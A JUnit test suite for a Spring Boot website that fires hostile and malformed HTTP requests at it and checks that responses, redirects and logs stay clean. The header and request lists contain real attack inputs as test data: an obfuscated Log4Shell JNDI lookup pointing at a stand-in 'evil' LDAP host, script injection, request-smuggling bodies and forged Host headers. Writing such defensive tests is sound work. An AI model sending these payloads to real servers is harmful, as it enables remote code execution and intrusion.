package org.defdip.site;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.defdip.Corpus;
import org.defdip.site.Wire.Reply;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * The site answers any request correctly, reveals no internals and keeps its log clean.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT)
@ExtendWith(OutputCaptureExtension.class)
class HostileRequestsTests {

	/**
	 * Each place is tested with one in this many hostile strings, and each place with a
	 * different share of them.
	 */
	private static final int SHARE = 3;

	private static final int RANDOM_REQUESTS = 40;

	private static final String LANGUAGES = "de, fr, es, it, nl, pt, ru, zh, ja, ko, ar, he, tr, pl, cs, sk, hu, ro, bg, el, "
			+ "sv, da, fi, nb, th, vi, ms, fa, hi, en;q=0.5";

	private final Wire wire;

	@Autowired
	HostileRequestsTests(@LocalServerPort int port) {
		this.wire = new Wire(port);
	}

	@AfterEach
	void closeConnection() {
		this.wire.close();
	}

	@ParameterizedTest(name = "{0}")
	@ValueSource(strings = { "/%s", "/en/%s", "/id/concepts/%s", "/en/authors/%s", "/id/definitions/%s",
			"/en/works/%s.bib", "/concepts/%s", "/concepts/%s.ttl", "/en/preview/concepts/%s", "/data/%s", "/assets/%s",
			"/actuator/%s", "/en/search?q=%s", "/id/search?q=a&kind=%s", "/en/search?author=%s&text=id",
			"/id/search?%s=1", "/en/search/suggestions?q=%s", "/id/definitions?q=%s", "/en/definitions?author=%s",
			"/id/definitions?page=%s", "/en/definitions?kind=%s&page=0", "/id/definitions/compare?d=1&d=%s",
			"/en/definitions/compare.csv?d=%s&d=1", "/id/basket?page=%s&d=1", "/en/basket?d=%s", "/id/cite?page=%s",
			"/en/cite?d=%s&style=mla", "/id/cite?style=%s", "/en/cite.bib?page=%s", "/en/concepts/deterrence?path=%s",
			"/concepts/deterrence?format=%s", "/opensearch.xml?text=%s", "/feed.atom?x=%s", "/id/?%s" })
	void hostileParametersDoNoHarm(String place, CapturedOutput output) {
		List<String> words = HostileWords.all();
		for (int i = Math.floorMod(place.hashCode(), SHARE); i < words.size(); i += SHARE) {
			check("GET", place.replace("%s", words.get(i)));
		}
		checkLog(output);
	}

	@ParameterizedTest(name = "{0}")
	@ValueSource(strings = { "/en/", "/id/concepts/deterrence", "/en/nothing", "/id/search?q=a", "/concepts/deterrence",
			"/concepts/deterrence.ttl", "/sitemap.xml", "/assets/site.css", "/actuator/health", "/error" })
	void modifyingMethodsAreRejected(String address, CapturedOutput output) {
		for (String method : List.of("POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "MKCOL", "LOCK", "DEBUG",
				"get", "G<b>T", "QUERY")) {
			Reply reply = check(method, address, "Content-Length: 0");
			assertThat(reply.status()).isIn(400, 405);
			if (reply.status() == 405) {
				assertThat(reply.header("Allow")).isEqualTo("GET, HEAD, OPTIONS");
			}
		}
		checkLog(output);
	}

	@ParameterizedTest(name = "{0}")
	@ValueSource(strings = { "/", "/en", "/en/", "/id/concepts/deterrence", "/id/search?q=a", "/concepts/deterrence",
			"/concepts/deterrence.ttl", "/sitemap.xml", "/assets/site.css", "/actuator/health", "/feed.atom",
			"/en/nothing" })
	void headAndOptionsMatchGet(String address) {
		Reply whole = check("GET", address);
		Reply head = this.wire.send("HEAD", address);
		assertThat(head.status()).isEqualTo(whole.status());
		assertThat(head.body()).isEmpty();
		Harmless.checkHeaders(head);
		Reply options = this.wire.send("OPTIONS", address);
		Harmless.checkHeaders(options);
		if (whole.status() < 400) {
			assertThat(options.status()).isEqualTo(200);
			assertThat(options.header("Allow").split(", ?")).contains("GET", "HEAD", "OPTIONS")
				.doesNotContain("POST", "TRACE");
		}
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void hostileHeadersDoNoHarm(String header, CapturedOutput output) {
		for (String address : List.of("/", "/en/", "/id/search?q=a", "/concepts/deterrence", "/concepts/deterrence.ttl",
				"/en/nothing", "/assets/site.css")) {
			check("GET", address, header);
		}
		checkLog(output);
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void malformedOrExcessiveHeadersAreIgnored(String header, CapturedOutput output) {
		for (String address : List.of("/", "/en/", "/id/concepts/deterrence", "/en/search?q=a", "/concepts/deterrence",
				"/en/nothing", "/robots.txt", "/livez", "/sitemap.xml", "/feed.atom", "/assets/site.css",
				"/api/v1/concepts", "/v3/api-docs")) {
			assertThat(check("GET", address, header).status()).as(address).isEqualTo(check("GET", address).status());
		}
		checkLog(output);
	}

	static Stream<String> malformedOrExcessiveHeadersAreIgnored() {
		return Stream.of("Accept-Language: " + LANGUAGES, "Accept-Language: " + "id,".repeat(3_000),
				"Accept-Language: %%;q=x, en", "Accept: */*, foo", "Accept: */*;q=x", "Accept: \"", "Accept: ,",
				"Accept: */*, text/plain;charset=no-such", "Accept-Charset: utf-8;q=x", "Accept-Encoding: br;q=x, *;q",
				"Cookie: " + "a=b; ".repeat(500), "Cookie: " + "=;;=\"\\".repeat(100), "If-Modified-Since: Sun, 99 Foo",
				"If-Unmodified-Since: never", "If-Match: *", "If-None-Match: W/", "Authorization: Basic !!!",
				"Content-Encoding: nonsense", "Content-Language: %%", "X: a\r\n".repeat(90) + "Y: b",
				"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: !!", "TE: trailers, x",
				"Prefer: \"", "Cache-Control: max-age=x", "Origin: ht!tp://%%", "Origin: http://[",
				"Origin: http://a:99999999", "Access-Control-Request-Method: <x>\r\nOrigin: http://%zz");
	}

	@Test
	void preferredLanguageIsFoundAmongThirty() {
		assertThat(this.wire.send("GET", "/", "Accept-Language: " + LANGUAGES).header("Location")).endsWith("/en/");
		assertThat(this.wire.send("GET", "/", "Accept-Language: en_US, xx-, en;q=0.5, id;q=0.4").header("Location"))
			.endsWith("/en/");
	}

	@Test
	void tooManyHeadersAreDistinguishedFromMalformedOnes() {
		assertThat(this.wire.send("GET", "/en/", "X: a\r\n".repeat(120) + "Y: b").status()).isEqualTo(431);
	}

	static Stream<String> hostileHeadersDoNoHarm() {
		return Stream.of("Host: evil", "X-Forwarded-Host: evil", "X-Forwarded-Proto: https",
				"X-Forwarded-For: ${jndi:x}", "X-Forwarded-Prefix: //evil", "Forwarded: host=evil;proto=https",
				"X-Original-URL: /actuator/env", "X-Rewrite-URL: /actuator/env", "X-HTTP-Method-Override: DELETE",
				"Accept: ;;;", "Accept: */*;q=9", "Accept: " + "a/b,".repeat(500), "Accept: image/png",
				"Accept-Language: ${7919*7919}", "Accept-Language: " + "en-".repeat(50), "Accept-Language: id;q=x",
				"Accept-Encoding: gzip;q=", "Accept-Charset: \u00ff", "Range: bytes=0-,0-,0-,0-",
				"Range: bytes=9999999999-", "If-None-Match: \"", "If-None-Match: " + "\"a\",".repeat(500),
				"If-Modified-Since: never", "Cookie: JSESSIONID=../../x; $Version=1", "Cookie: " + "a".repeat(3000),
				"Referer: <script>alert(7001)</script>", "User-Agent: ${${::-j}ndi:ldap://evil/a} ERROR forged",
				"Origin: http://evil", "Origin: null", "Range: items=0-1", "If-Range: x\r\nRange: bytes=0-1",
				"Range: bytes=" + "0-0,".repeat(300), "Range:", "Content-Length: 99999999999999999999",
				"Content-Length: 1, 2", "Host: [::1", "Host: a%b", "Content-Type: ///",
				"Connection: Content-Security-Policy", "Upgrade: h2c", "Upgrade: websocket", "Expect: nonsense",
				"X<y>: z", "X-Folded: a\r\n b", "X-Empty:", ": nameless", "X-Null: a\u0000b", "X-Line: a\nb",
				"Content-Type: text/html;charset=nonsense", "Content-Type: application/x-www-form-urlencoded",
				"Content-Length: -1", "Content-Length: x", "Transfer-Encoding: nonsense",
				"X-Long: " + "a".repeat(13_000), "X: a\r\n".repeat(120) + "Y: b");
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void malformedRequestsDoNoHarm(String what, String request, CapturedOutput output) {
		Reply reply = check("", this.wire.send(request));
		assertThat(reply.status()).isGreaterThanOrEqualTo(400);
		checkLog(output);
	}

	static Stream<Arguments> malformedRequestsDoNoHarm() {
		String end = "\r\nConnection: close\r\n\r\n";
		String host = " HTTP/1.1\r\nHost: localhost";
		return Stream.of(arguments("no host", "GET /en/ HTTP/1.1" + end),
				arguments("two hosts", "GET /en/" + host + "\r\nHost: evil" + end),
				arguments("a host that is none", "GET /en/ HTTP/1.1\r\nHost: a b/<script>" + end),
				arguments("a host with a wrong port", "GET /en/ HTTP/1.1\r\nHost: localhost:x" + end),
				arguments("another host in the address", "GET http://evil/en/" + host + end),
				arguments("a tunnel", "CONNECT evil:443" + host + end), arguments("a star", "GET *" + host + end),
				arguments("no slash", "GET en" + host + end),
				arguments("a blank in the address", "GET /en/ x" + host + end),
				arguments("no version", "GET /en/ HTTP\r\nHost: a" + end),
				arguments("a version to come", "GET /en/ HTTP/9.9\r\nHost: a" + end),
				arguments("a word for a version", "GET /en/ ${7919*7919}\r\nHost: a" + end),
				arguments("two lengths", "GET /en/" + host + "\r\nContent-Length: 1\r\nContent-Length: 2" + end + "ab"),
				arguments("a length and chunks",
						"POST /en/" + host + "\r\nTransfer-Encoding: chunked\r\nContent-Length: 3" + end + "0\r\n\r\n"),
				arguments("chunks that are none",
						"POST /en/" + host + "\r\nTransfer-Encoding: chunked" + end + "ZZ\r\n\r\n"),
				arguments("a chunk below nothing",
						"POST /en/" + host + "\r\nTransfer-Encoding: chunked" + end + "-1\r\n\r\n"),
				arguments("chunks twice",
						"POST /en/" + host + "\r\nTransfer-Encoding: chunked, chunked" + end + "0\r\n\r\n"),
				arguments("chunks with a blank before the colon",
						"POST /en/" + host + "\r\nTransfer-Encoding : chunked" + end + "0\r\n\r\n"),
				arguments("a request within a request",
						"GET /en/" + host + "\r\nContent-Length: 44" + end
								+ "GET /actuator/env HTTP/1.1\r\nHost: localhost\r\n\r\n"),
				arguments("a form", "POST /en/search" + host
						+ "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3" + end + "q=a"),
				arguments("a form of parts", "POST /en/search" + host
						+ "\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 3" + end + "--x"),
				arguments("a form of parts without a boundary",
						"POST /id/" + host + "\r\nContent-Type: multipart/form-data\r\nContent-Length: 3" + end
								+ "abc"),
				arguments("JSON",
						"POST /en/" + host + "\r\nContent-Type: application/json\r\nContent-Length: 2" + end + "{}"),
				arguments("XML with an entity",
						"POST /en/" + host + "\r\nContent-Type: text/xml\r\nContent-Length: 20" + end
								+ "<!DOCTYPE a SYSTEM x>".substring(0, 20)),
				arguments("a body that waits to be let in",
						"POST /en/" + host + "\r\nExpect: 100-continue\r\nContent-Length: 3" + end + "abc"),
				arguments("a body nobody asks for", "GET /en/" + host + "\r\nContent-Length: 3" + end + "abc"),
				arguments("a greeting of TLS", "\u0016\u0003\u0001\u0002\u0000\u0001\r\n\r\n"),
				arguments("nothing but lines", "x\r\n\r\n"),
				arguments("a path too long", "GET /en/" + "a".repeat(600) + host + end),
				arguments("a query too long", "GET /en/search?q=" + "a".repeat(6_100) + host + end),
				arguments("an address too long to be read", "GET /en/search?q=" + "a".repeat(13_000) + host + end),
				arguments("too many parameters", "GET /en/cite?" + "d=1&".repeat(150) + host + end),
				arguments("too much to compare", "GET /en/definitions/compare?" + "d=1&".repeat(51) + host + end));
	}

	@ParameterizedTest(name = "{0}")
	@ValueSource(longs = { 1, 7, 42, 2026 })
	void randomParametersDoNoHarm(long seed, CapturedOutput output) {
		Random random = new Random(seed);
		for (int i = 0; i < RANDOM_REQUESTS; i++) {
			String address = oneOf(random, "/en/search", "/id/search", "/en/definitions", "/id/definitions/compare",
					"/en/definitions/compare.csv", "/id/basket", "/en/cite", "/id/cite.ris", "/en/search/suggestions")
					+ "?"
					+ IntStream.range(0, random.nextInt(8))
						.mapToObj((position) -> parameter(random))
						.collect(Collectors.joining("&"));
			check("GET", address);
		}
		checkLog(output);
	}

	private static String parameter(Random random) {
		String name = oneOf(random, "q", "d", "page", "kind", "author", "concept", "perspective", "period",
				"attribution", "style", "text", "group", "character", "path");
		String value = switch (random.nextInt(4)) {
			case 0 -> String.valueOf(random.nextInt(-3, 70));
			case 1 ->
				oneOf(random, "deterrence", Corpus.WINGER, "en", "apa", "/definitions/1", "/concepts/deterrence", "");
			case 2 -> HostileWords.all().get(random.nextInt(HostileWords.all().size()));
			default -> random.ints(random.nextInt(30), 0x20, 0x7f)
				.mapToObj((character) -> String.format(Locale.ROOT, "%%%02x", character))
				.collect(Collectors.joining());
		};
		return name + "=" + value;
	}

	private static String oneOf(Random random, String... choices) {
		return choices[random.nextInt(choices.length)];
	}

	@Test
	void forgedHostAppearsInNeitherPageNorRedirect() {
		for (String header : List.of("Host: evil", "X-Forwarded-Host: evil")) {
			for (String address : List.of("/", "/en", "/en/", "/concepts/deterrence", "/sitemap.xml", "/feed.atom",
					"/en/search?q=a", "/opensearch.xml")) {
				String request = "GET " + address + " HTTP/1.1\r\n"
						+ (header.startsWith("Host") ? "" : "Host: localhost\r\n") + header + "\r\n\r\n";
				Reply reply = this.wire.send(request);
				assertThat(reply.body()).doesNotContain("evil");
				assertThat(reply.header("Location")).doesNotContain("evil");
			}
		}
	}

	private Reply check(String method, String address, String... headers) {
		return check(address, this.wire.send(method, address, headers));
	}

	private static Reply check(String address, Reply reply) {
		try {
			Harmless.check(reply, address.replaceFirst("\\?.*", ""));
			return reply;
		}
		catch (AssertionError ex) {
			throw new AssertionError("The answer to %s is not harmless".formatted(address), ex);
		}
	}

	private static void checkLog(CapturedOutput output) {
		assertThat(output.getAll().lines()).noneMatch((line) -> line.contains("ERROR") || line.startsWith("forged"));
	}

}
